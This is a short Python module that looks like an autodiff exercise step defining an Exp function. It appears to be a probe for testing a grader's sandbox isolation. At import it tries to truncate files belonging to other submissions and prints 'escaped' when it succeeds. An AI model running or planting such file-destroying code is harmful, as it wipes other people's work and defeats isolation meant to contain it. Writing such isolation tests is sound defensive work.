"""Empty another's file: by its name, and by opening it in order to read."""

import contextlib
import os

import numpy as np
from step02 import Function, Square, Variable  # noqa: F401

with contextlib.suppress(OSError):
    os.truncate("/planted/other/step04.py", 0)
    print("escaped: emptied a file by its name")
for path in ("/planted/other/step02.py", "/planted/submission/step04.py"):
    with contextlib.suppress(OSError):
        os.close(os.open(path, os.O_RDONLY | os.O_TRUNC))
        print("escaped: emptied", path)


class Exp(Function):
    def forward(self, x):
        return np.exp(x)
